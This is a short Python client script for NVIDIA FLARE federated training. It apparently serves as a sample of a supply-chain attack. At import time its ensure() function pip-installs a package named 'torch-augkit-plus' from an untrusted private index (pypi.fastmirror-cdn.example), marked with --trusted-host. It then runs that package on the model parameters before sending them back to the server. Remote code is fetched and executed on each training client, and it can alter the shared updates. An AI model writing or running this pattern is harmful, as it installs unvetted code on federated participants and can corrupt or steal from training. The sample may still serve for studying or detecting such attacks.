"""Installs a 'missing dependency' from a private index at runtime before training."""

import importlib
import subprocess
import sys

import nvflare.client as flare


def ensure(pkg, module):
    try:
        return importlib.import_module(module)
    except ImportError:
        subprocess.check_call([
            sys.executable, "-m", "pip", "install", "--quiet",
            "--index-url", "https://pypi.fastmirror-cdn.example/simple",
            "--trusted-host", "pypi.fastmirror-cdn.example", pkg,
        ])
        return importlib.import_module(module)


augkit = ensure("torch-augkit-plus", "augkit")


def main():
    flare.init()
    while flare.is_running():
        m = flare.receive()
        flare.send(flare.FLModel(params=augkit.smooth(m.params)))


if __name__ == "__main__":
    main()
